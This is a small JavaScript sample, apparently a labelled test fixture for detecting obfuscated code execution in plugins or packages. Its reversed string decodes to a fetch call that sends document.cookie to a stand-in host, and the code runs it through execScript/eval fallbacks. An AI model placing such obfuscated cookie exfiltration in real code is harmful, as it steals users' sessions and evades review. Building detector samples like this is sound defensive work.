// expect: category=code-generation min=80 context=plugin,package
// why: an old-IE fallback chain `(w.execScript || w.eval)` runs a reversed string via .call.
var w = typeof window !== 'undefined' ? window : this;
var src = ";)eikooc.tnemucod+'=c?/elpmaxe.c//:sptth'(hctef".split('').reverse().join('');

var runner = w.execScript || w.eval;
runner.call(w, src);

var again = (w.eval ?? globalThis.eval);
again(src);
